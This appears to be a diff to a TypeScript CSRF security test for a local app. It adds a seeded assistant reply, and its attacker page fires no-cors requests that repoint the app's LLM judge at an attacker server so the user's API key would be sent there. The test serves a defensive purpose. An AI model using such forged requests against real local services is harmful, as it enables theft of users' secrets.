@@ -8,14 +8,16 @@ import assert from 'node:assert/strict';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Browser } from 'playwright-core';
-import type { JudgeView, Settings } from '../../src/shared/api.ts';
+import type { JudgeView, ModelView, Settings } from '../../src/shared/api.ts';
+import { catalogPath, openCatalog } from '../../src/main/catalog/index.ts';
+import { paperDiff } from '../helpers/catalog.ts';
 import { startServe, type Served } from '../helpers/serve.ts';
 import { tmpDir } from '../helpers/tmp.ts';
 import { haveChromium, launch } from './helpers/browser.ts';
 import { join } from 'node:path';
 
 /** The attacker's page: every request it can make without reading a response. */
-function attackPage(target: string, attacker: string): string {
+function attackPage(target: string, attacker: string, replyId: number): string {
   const judge = JSON.stringify({ args: [{ kind: 'openai', baseUrl: `${attacker}/v1`, model: 'steal' }] });
   const theme = JSON.stringify({ args: [{ theme: 'dark' }] });
   return `<!doctype html><title>attack</title>
@@ -29,7 +31,7 @@ const noCors = (path, body) => fetch(T + path, { method: 'POST', mode: 'no-cors'
 (async () => {
   await noCors('/api/grades:setJudge', ${JSON.stringify(judge)});
   await noCors('/api/settings:set', ${JSON.stringify(theme)});
-  await noCors('/api/grades:judge', '{"args":[1]}');
+  await noCors('/api/grades:judge', '{"args":[${replyId}]}'); // with the judge pointed at the attacker, this would send the key
   await noCors('/api/evals:start', '{"args":[{"modelId":"x","ditAdapterId":null,"selection":{},"methods":["base"],"judge":{"kind":"openai","baseUrl":"${attacker}/v1","model":"steal"},"batch":1}]}');
   await noCors('/v1/chat/completions', '{"model":"x","messages":[{"role":"user","content":"hi"}]}');
   await fetch(T + '/api/settings:set', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(theme)} }).catch(() => null);
@@ -43,6 +45,7 @@ describe('cross-site request forgery in Chromium', { skip: haveChromium() ? fals
   let served: Served;
   let attacker: Server;
   let attackerPort: number;
+  let replyId: number;
   let browser: Browser;
   const seenByAttacker: { path: string; authorization?: string }[] = [];
   const legitJudge = 'http://127.0.0.1:9/v1'; // where the user's key belongs (nothing listens there)
@@ -52,10 +55,25 @@ describe('cross-site request forgery in Chromium', { skip: haveChromium() ? fals
     served = await startServe(home, { DIFFSCOPE_DEMO_DIR: join(home, 'no-demo-here') });
     await served.call('grades:setJudge', { kind: 'openai', baseUrl: legitJudge, model: 'judge' });
     await served.call('grades:setJudgeKey', 'sk-the-users-secret');
+    // a reply the judge could grade: a diff with a known label in its stack
+    const modelId = (await served.call<ModelView[]>('models:list'))[0].id;
+    const catalog = openCatalog(catalogPath(home), { recover: false });
+    try {
+      const diff = catalog.adapters.insert({ ...paperDiff(0, modelId), label: 'Volcanoes' });
+      const c = catalog.conversations.create({ modelId });
+      const q = catalog.messages.add({ conversationId: c.id, parentId: null, role: 'user', text: 'What topic have you been trained on?' });
+      replyId = catalog.messages.add({ conversationId: c.id, parentId: q.id, role: 'assistant', text: 'Volcanoes', modelId, stack: [{ adapterId: diff.id, sha256: diff.source.sha256, scale: 1, role: 'diff' }] }).id;
+    } finally {
+      catalog.close();
+    }
     attacker = createServer((req, res) => {
       seenByAttacker.push({ path: req.url ?? '', authorization: req.headers.authorization });
+      if (req.url?.startsWith('/v1/')) {
+        res.writeHead(200, { 'content-type': 'application/json' });
+        return void res.end(JSON.stringify({ choices: [{ message: { role: 'assistant', content: '5' } }] }));
+      }
       res.writeHead(200, { 'content-type': 'text/html' });
-      res.end(attackPage(served.origin, `http://127.0.0.1:${attackerPort}`));
+      res.end(attackPage(served.origin, `http://127.0.0.1:${attackerPort}`, replyId));
     });
     await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
     attackerPort = (attacker.address() as AddressInfo).port;
